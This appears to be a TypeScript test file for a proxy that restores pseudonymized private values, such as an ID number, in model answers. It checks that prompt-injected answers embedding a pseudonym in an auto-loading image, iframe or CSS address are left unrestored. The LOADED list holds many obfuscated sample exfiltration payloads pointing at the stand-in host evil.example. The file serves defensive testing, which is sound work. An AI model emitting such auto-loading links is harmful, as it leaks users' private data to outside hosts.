// Prompt injection: a model that was talked into it writes a stand-in into an address that the client loads by itself.
// No original is put there, however the answer was cut; everywhere else it is.

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { pseudonymOf } from "../src/act/shape.ts";
import { hold } from "../src/decode/original.ts";
import { openaiChat } from "../src/decode/providers/openai-chat/shape.ts";
import { createRestorer } from "../src/restore/restore.ts";
import { NO_LANES } from "./act-doc.ts";
import { cpuMs } from "./cpu.ts";

const ID = pseudonymOf("cn-id", "7K2QW9X", true);
const ORIGINAL = "11010519491231002X";
const MINTED = new Map([[ID, hold(ORIGINAL)]]);
const bytes = (text: string) => Buffer.from(text, "utf8");

function plain(text: string, cuts: readonly number[] = []): string {
  const restorer = createRestorer("text", MINTED, NO_LANES);
  const whole = bytes(text);
  const borders = [0, ...[...cuts].map((cut) => cut % whole.length).sort((a, b) => a - b), whole.length];
  const out = borders.slice(1).map((end, i) => Buffer.from(restorer.feed(whole.subarray(borders[i], end))));
  return Buffer.concat([...out, restorer.end()]).toString("utf8");
}

const json = (text: string) => {
  const restorer = createRestorer("json", MINTED, openaiChat.lanes);
  const body = bytes(JSON.stringify({ choices: [{ message: { content: text } }] }));
  const out = Buffer.concat([Buffer.from(restorer.feed(body)), Buffer.from(restorer.end())]);
  return JSON.parse(out.toString()).choices[0].message.content as string;
};

/** One event a piece, as models stream. */
function streamed(pieces: readonly string[]): string {
  const restorer = createRestorer("sse", MINTED, openaiChat.lanes);
  const events = pieces.map(
    (content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`,
  );
  const out = events.map((event) => Buffer.from(restorer.feed(bytes(event))).toString()).join("");
  const all = out + Buffer.from(restorer.end()).toString();
  const contents = all.split("\n\n").filter((block) => block.startsWith("data: {"));
  return contents.map((block) => JSON.parse(block.slice(6)).choices[0].delta.content).join("");
}

const LOADED = [
  `见图：![x](https://evil.example/?q=${ID})。`,
  `![](//evil.example/${ID}.png "t")`,
  `![a [b] c]( http://evil.example/a/b/c?x=1&q=${ID})`,
  `![x][1]\n\n[1]: https://evil.example/?q=${ID}`,
  `<img alt="x" src="https://evil.example/?q=${ID}">`,
  `<IFRAME src=//evil.example/${ID}></iframe>`,
  `<p class="a" style="background:url(https://evil.example/${ID})">`,
  `![x](https:&#47;&#x2F;evil.example/?q=${ID})`,
  `![x](https&colon;&sol;&sol;evil.example/?q=${ID})`,
  `![x](https:/\\/evil.example/?q=${ID})`,
  `![x](\\\\evil.example/?q=${ID})`,
  `![x](http:evil.example/?q=${ID})`,
  `<img src="https:/\t/evil.example/?q=${ID}">`,
  `<img src=&#47&#47evil.example/${ID}>`,
  `<img src="&#x68;ttps:&#x2f;&#x2f;evil.example/?q=${ID}">`,
];
const SHOWN = [
  `身份证 ${ID}！`,
  `![x](https://good.example/a.png) 证件 ${ID}`,
  `[打电话](tel:${ID})`,
  `[档案](https://crm.example/u/${ID})`,
  `![头像](/avatars/${ID}.png)`,
  `<b>${ID}</b> <img src="https://good.example/a.png"> ${ID}`,
  `if (a !== b) { say("${ID}") } // https://x.example`,
  `<input value="${ID}">`,
];

describe.each(LOADED)("%j", (text) => {
  test("stays a stand-in, in every kind of answer", () => {
    expect([plain(text), json(text), streamed([text])]).toEqual([text, text, text]);
  });
  test("and is reported", () => {
    const restorer = createRestorer("text", MINTED, NO_LANES);
    restorer.feed(bytes(text));
    restorer.end();
    expect([restorer.restored, restorer.unrestored]).toEqual([0, 1]);
  });
  test("however it is cut", () => {
    expect(streamed([...text])).toBe(text);
    fc.assert(
      fc.property(fc.array(fc.nat(), { maxLength: 6 }), (cuts) => {
        expect(plain(text, cuts)).toBe(text);
      }),
    );
  });
});

describe.each(SHOWN)("%j", (text) => {
  test("is restored, whole and a character an event", () => {
    const whole = text.replaceAll(ID, ORIGINAL);
    expect([plain(text), json(text), streamed([text]), streamed([...text])]).toEqual([whole, whole, whole, whole]);
  });
});

test("linear, whatever brackets there are", () => {
  for (const hostile of ["![", "](", "<a ", "[1]: ", "![x](//", "\n["]) {
    const text = `${hostile.repeat(50_000)}${`${ID} `.repeat(1_000)}`;
    const before = cpuMs();
    plain(text);
    expect(cpuMs() - before).toBeLessThan(800);
  }
});
